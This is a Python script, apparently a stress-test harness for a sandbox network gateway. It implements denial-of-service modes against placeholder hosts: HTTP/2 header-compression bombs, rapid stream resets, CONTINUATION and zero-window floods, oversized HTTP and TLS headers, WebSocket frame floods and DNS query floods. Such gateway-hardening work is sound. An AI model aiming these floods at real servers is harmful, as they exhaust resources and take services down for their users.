"""What a hostile program in a box says to the gateway, and never reads an answer: python3 flood.py MODE TIMES [MODE TIMES]…"""

import resource, socket, ssl, struct, sys, time

ALLOWED, DENIED = "slow.example.com", "closed.example.com"
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)


def dial(host, port):
    stream = socket.create_connection((host, port), timeout=10)
    stream.settimeout(1)
    return stream


def secure(host, alpn):
    context = ssl.create_default_context()
    context.set_alpn_protocols([alpn])
    stream = context.wrap_socket(dial(host, 443), server_hostname=host)
    return stream


def say(stream, *parts):
    """Whether all of it was taken. A gateway may hang up at any time, or stop listening."""
    try:
        for part in parts:
            stream.sendall(part)
        return True
    except OSError:
        return False


def frame(kind, flags, stream, content):
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def text(value):
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest = len(value) - 127
    return bytes([127, 0x80 | rest & 127, rest >> 7]) + value


def head(host, method=b"\x82"):
    return method + b"\x87\x04" + text(b"/") + b"\x01" + text(host.encode())


# A header of 3.9 kB that goes into the table of the connection, and is then stood for by one byte.
LONG = b"\x40" + text(b"x-b") + text(b"z" * 3900)


def http2(host, settings=b""):
    stream = secure(host, "h2")
    say(stream, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings))
    return stream


def bombs(host, method, flags, repeats, streams=100):
    stream = http2(host)
    for number in range(streams):
        block = head(host, method) + (LONG if number == 0 else b"") + b"\xbe" * repeats
        if not say(stream, frame(1, flags, 2 * number + 1, block)):
            break
    return stream


def streams(host, flags, count):
    # No window: not one byte of an answer may come.
    stream = http2(host, b"\0\4\0\0\0\0")
    block = head(host, b"\x83")
    for number in range(count):
        if not say(stream, frame(1, flags, 2 * number + 1, block)):
            break
    return stream


def resets(host, count):
    stream = http2(host)
    for number in range(count):
        reset = frame(3, 0, 2 * number + 1, struct.pack(">I", 8))
        if not say(stream, frame(1, 5, 2 * number + 1, head(host)) + reset):
            break
    return stream


def written(stream, *parts):
    say(stream, *parts)
    return stream


def lines(port, host, mebibytes):
    stream = dial(host, port)
    begun = time.monotonic()
    for _ in range(mebibytes):
        if time.monotonic() > begun + 9 or not say(stream, b"\r\n" * (1 << 19)):
            break
    return stream


def tunnel():
    # As little as the kernel allows is held here, so that the gateway would hold the rest.
    stream = socket.socket()
    for option in (socket.SO_RCVBUF, socket.SO_SNDBUF):
        stream.setsockopt(socket.SOL_SOCKET, option, 2048)
    stream.connect((socket.gethostbyname("raw.example.com"), 2525))
    stream.settimeout(0.01)
    say(stream, b"\0" * (1 << 18))
    return stream


FIELDS = b"".join(b"%x:1\r\n" % number for number in range(250))
PARTIAL = b"GET / HTTP/1.1\r\n" + FIELDS + b"x: " + b"y" * 28000
HELLO = b"\x16\x03\x01\x40\x00\x01\x00\xff\xf0\x03\x03" + b"r" * 16378 + b"\x16\x03\x01\x40\x00" + b"r" * 16384
ASK = b"GET /slow HTTP/1.1\r\nHost: " + ALLOWED.encode() + b"\r\n\r\n"
GRANT = b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
FRAMES = (b"\x82\xfe\xff\xff" + b"mask" + b"z" * 65535) * 16

modes = {
    "bomb": lambda: bombs(ALLOWED, b"\x82", 5, 900),
    "bomb-fitting": lambda: bombs(ALLOWED, b"\x82", 5, 10),
    "bomb-denied": lambda: bombs(DENIED, b"\x83", 4, 900),
    "bomb-few": lambda: bombs(DENIED, b"\x83", 4, 200),
    "streams": lambda: streams(DENIED, 4, 1000),
    "streams-allowed": lambda: streams(ALLOWED, 4, 1000),
    "resets": lambda: resets(ALLOWED, 1000),
    "continuations": lambda: written(
        http2(ALLOWED), frame(1, 0, 1, head(ALLOWED)), *[frame(9, 0, 1, b"\0" + text(b"x") + text(b"y" * 16000))] * 60
    ),
    "lines": lambda: lines(80, "10.9.9.9", 64),
    "lines-in-tls": lambda: written(secure(ALLOWED, "http/1.1"), *[b"\r\n" * (1 << 19)] * 16),
    "heads": lambda: written(dial(DENIED, 80), PARTIAL),
    "heads-in-tls": lambda: written(secure(DENIED, "http/1.1"), PARTIAL),
    "hellos": lambda: written(dial(DENIED, 443), HELLO),
    "pipeline": lambda: written(secure(ALLOWED, "http/1.1"), *[ASK * 100] * 20),
    "frames": lambda: written(secure(ALLOWED, "http/1.1"), ASK[:-2].replace(b"slow", b"socket") + GRANT, *[FRAMES] * 4),
    "tunnels": tunnel,
    "questions": lambda: written(
        dial("127.0.0.1", 53), *[b"\x00\x1d\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x03%03x\x07example\0\0\x01\0\x01" % n for n in range(4000)]
    ),
}
everything = []
for mode, times in zip(sys.argv[1::2], sys.argv[2::2]):
    held = []
    everything.append(held)
    for _ in range(int(times)):
        try:
            held.append(modes[mode]())
        except OSError:
            pass
    time.sleep(0.3)
    print(mode, len(held))
